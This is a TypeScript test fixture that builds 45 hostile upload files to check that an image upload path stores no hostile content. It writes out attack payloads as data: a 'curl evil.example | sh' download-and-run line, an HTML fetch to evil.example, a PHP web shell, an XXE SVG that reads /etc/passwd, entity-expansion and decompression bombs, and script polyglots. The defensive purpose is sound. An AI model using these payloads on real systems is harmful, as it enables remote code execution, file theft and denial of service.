/** Forty-five hostile files that may be sent instead of a photograph, built byte by byte. */
import { deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { facePhoto, facePicture } from "./pictures.ts";

/** What must not be found in anything that is stored. */
export const PAYLOAD = "PAYLOAD-evil-script";
const HTML = `<!doctype html><script>fetch("https://evil.example/${PAYLOAD}")</script>`;

export interface HostilePhoto {
  readonly what: string;
  readonly bytes: () => Buffer | Promise<Buffer>;
  /** It contains a true picture: only its pixels may be stored. */
  readonly isPicture?: true;
}
const file = (what: string, bytes: HostilePhoto["bytes"]): HostilePhoto => ({ what, bytes });
const around = (what: string, bytes: HostilePhoto["bytes"]): HostilePhoto => ({ what, bytes, isPicture: true });
const latin = (text: string) => Buffer.from(text, "latin1");
const hex = (text: string) => Buffer.from(text.replaceAll(" ", ""), "hex");

const CRC = Array.from({ length: 256 }, (_, n) => {
  let value = n;
  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1;
  return value >>> 0;
});
function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([latin(type), data]);
  let crc = 0xffffffff;
  for (const byte of body) crc = (CRC[(crc ^ byte) & 255] ?? 0) ^ (crc >>> 8);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE((crc ^ 0xffffffff) >>> 0);
  return Buffer.concat([length, body, sum]);
}
const PNG = hex("89504e470d0a1a0a");
function pngHead(width: number, height: number, depth = 1): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = depth;
  return chunk("IHDR", head);
}
/** A PNG of zeros: its compressed rows are a thousand times smaller than its pixels. */
const emptyPng = (width: number, height: number) =>
  Buffer.concat([
    PNG,
    pngHead(width, height),
    chunk("IDAT", deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 })),
    chunk("IEND", Buffer.alloc(0)),
  ]);

/** A JPEG segment after the start of the image. */
const withSegment = (jpeg: Buffer, marker: number, data: Buffer): Buffer => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(data.length + 2);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, marker]), length, data, jpeg.subarray(2)]);
};
const SEED = 7;
const jpeg = () => facePhoto(SEED);
const half = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2));
const animation = async () => {
  const frames = await Promise.all([1, 2, 3].map((seed) => facePicture(seed, 1_000, 750).png().toBuffer()));
  return sharp(frames, { join: { animated: true } })
    .gif()
    .toBuffer();
};
/** A profile in 60 segments of 64 KB that is no profile. */
async function hugeProfile(): Promise<Buffer> {
  let bytes = await jpeg();
  for (let part = 60; part >= 1; part -= 1)
    bytes = withSegment(
      bytes,
      0xe2,
      Buffer.concat([latin("ICC_PROFILE\0"), Buffer.from([part, 60]), latin(PAYLOAD), Buffer.alloc(65_000, 65)]),
    );
  return bytes;
}

const NO_PICTURES: readonly HostilePhoto[] = [
  file("nothing", () => Buffer.alloc(0)),
  file("one byte", () => Buffer.alloc(1, 255)),
  file("text", () => latin("KTP saya menyusul.")),
  file("a page with a script", () => latin(HTML)),
  file("a program for Windows", () => Buffer.concat([latin("MZ"), Buffer.alloc(4_000, 144)])),
  file("a program for Linux", () => Buffer.concat([hex("7f454c46 02010100"), Buffer.alloc(4_000)])),
  file("a shell script", () => latin("#!/bin/sh\ncurl evil.example | sh\n")),
  file("a PHP script", () => latin("<?php system($_GET['x']); ?>")),
  file("an SVG with a script", () =>
    latin(`<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="900"><script>alert("${PAYLOAD}")</script></svg>`),
  ),
  file("an SVG that reads a file", () =>
    latin(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="1200" height="900"><text>&x;</text></svg>`,
    ),
  ),
  file("an SVG of entities that multiply", () =>
    latin(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&d;&d;&d;</text></svg>`,
    ),
  ),
  file("a packed SVG", () => gzipSync(latin(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>`))),
  file("a BMP", () => {
    const head = Buffer.alloc(54);
    head.write("BM");
    head.writeUInt32LE(54 + 120_000, 2);
    head.writeUInt32LE(54, 10);
    head.writeUInt32LE(40, 14);
    head.writeInt32LE(200, 18);
    head.writeInt32LE(200, 22);
    head.writeUInt16LE(1, 26);
    head.writeUInt16LE(24, 28);
    return Buffer.concat([head, Buffer.alloc(120_000, 99)]);
  }),
  file("an icon", () => Buffer.concat([hex("00000100 01001010 00000100 20006804 00001600 0000"), Buffer.alloc(1_128)])),
  file("a TIFF", () => facePicture(SEED).tiff().toBuffer()),
  file("a Photoshop file", () => Buffer.concat([latin("8BPS\0\x01"), Buffer.alloc(2_000)])),
  file("a PostScript file", () => latin("%!PS-Adobe-3.0 EPSF-3.0\n(x) run\n")),
  file("a PDF", () => latin("%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF")),
  file("an archive", () => Buffer.concat([hex("504b0304 1400"), Buffer.alloc(3_000, 7)])),
  file("a packed bomb", () => gzipSync(Buffer.alloc(50_000_000))),
  file("a rich text", () => latin("{\\rtf1\\ansi{\\object\\objemb}}")),
  file("a film", () => Buffer.concat([hex("00000018"), latin("ftypmp42"), Buffer.alloc(3_000, 3)])),
  file("a sound", () => Buffer.concat([latin("RIFF"), hex("00100000"), latin("WAVEfmt "), Buffer.alloc(3_000)])),
  file("a JPEG 2000", () => Buffer.concat([hex("0000000c 6a502020 0d0a870a"), Buffer.alloc(2_000)])),
  file("a JPEG XL", () => Buffer.concat([hex("ff0a"), Buffer.alloc(2_000, 5)])),
];

const BOMBS: readonly HostilePhoto[] = [
  file("a PNG of 20,000 by 20,000", () => emptyPng(20_000, 20_000)),
  file("a PNG of 40 million by 2", () => Buffer.concat([PNG, pngHead(40_000_000, 2), chunk("IDAT", Buffer.alloc(9))])),
  file("a PNG of two billion by two billion", () => Buffer.concat([PNG, pngHead(2_147_483_647, 2_147_483_647)])),
  file("a GIF of 65,535 by 65,535", () =>
    Buffer.concat([latin("GIF89a"), hex("ffff ffff 80 00 00 000000 ffffff 2c 0000 0000 ffff ffff 00 02 02 4c01 00 3b")]),
  ),
  file("a JPEG that claims 65,500 by 65,500", async () => {
    const bytes = Buffer.from(await jpeg());
    const at = bytes.indexOf(hex("ffc0")) + 5;
    bytes.writeUInt16BE(65_500, at);
    bytes.writeUInt16BE(65_500, at + 2);
    return bytes;
  }),
  file("a WebP that claims 16,384 by 16,384", () =>
    Buffer.concat([
      latin("RIFF"),
      hex("1e000000"),
      latin("WEBPVP8X"),
      hex("0a000000 00000000 ff3f00 ff3f00"),
      latin("VP8 "),
      hex("00000000"),
    ]),
  ),
];

const BROKEN: readonly HostilePhoto[] = [
  file("half a JPEG", async () => half(await jpeg())),
  file("the head of a JPEG", async () => (await jpeg()).subarray(0, 200)),
  file("the first bytes of a JPEG", () => hex("ffd8ffe0 0010 4a464946")),
  file("half a PNG", async () => half(await facePicture(SEED).png().toBuffer())),
  file("half a WebP", async () => half(await facePicture(SEED).webp().toBuffer())),
  file("a PNG with wrong sums", async () => {
    const bytes = await facePicture(SEED).png().toBuffer();
    const at = Math.floor(bytes.length / 2);
    bytes.fill(170, at, at + 500);
    return bytes;
  }),
  file("a HEIC of nothing", () =>
    Buffer.concat([hex("00000018"), latin("ftypheic"), hex("00000000"), latin("mif1heic"), Buffer.alloc(500)]),
  ),
  file("a GIF that is a script", () => latin(`GIF89a/*${"x".repeat(99)}*/=1;alert("${PAYLOAD}")`)),
];

const AROUND_PICTURES: readonly HostilePhoto[] = [
  around("a JPEG with an archive behind it", async () =>
    Buffer.concat([await jpeg(), hex("504b0304"), latin(PAYLOAD), hex("504b0506"), Buffer.alloc(18)]),
  ),
  around("a JPEG with a PDF behind it", async () =>
    Buffer.concat([await jpeg(), latin(`%PDF-1.7\n/JavaScript (${PAYLOAD})\n%%EOF`)]),
  ),
  around("a JPEG with a script in its comment", async () => withSegment(await jpeg(), 0xfe, latin(`<?php ${PAYLOAD} ?>${HTML}`))),
  around("a JPEG with a huge profile", hugeProfile),
  around("a PNG with a bomb in a text", async () => {
    const bytes = await facePicture(SEED).png().toBuffer();
    const text = chunk("zTXt", Buffer.concat([latin(`${PAYLOAD}\0\0`), deflateSync(Buffer.alloc(40_000_000))]));
    return Buffer.concat([bytes.subarray(0, 33), text, bytes.subarray(33)]);
  }),
  around("an animation", async () => Buffer.concat([await animation(), latin(PAYLOAD)])),
];

export const HOSTILE_PHOTOS: readonly HostilePhoto[] = [...NO_PICTURES, ...BOMBS, ...BROKEN, ...AROUND_PICTURES];
